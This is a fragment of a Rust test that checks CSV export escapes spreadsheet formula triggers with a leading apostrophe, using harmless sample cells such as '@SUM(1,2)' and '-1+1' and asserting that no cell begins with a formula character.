        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        let mut rdr = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 1);
        let row = &rows[0];
        // Text that a spreadsheet would run starts with an apostrophe; the text is
        // otherwise as written, and numbers stay numbers.
        assert_eq!(&row[0], &format!("'{evil}"));
        assert_eq!(&row[2], "'@SUM(1,2)");
        assert!(row.iter().any(|c| c == "'-1+1"), "{row:?}");
        assert!(row.iter().any(|c| c == "1500"), "{row:?}");
        assert!(
            row.iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{row:?}"
        );
    }
);
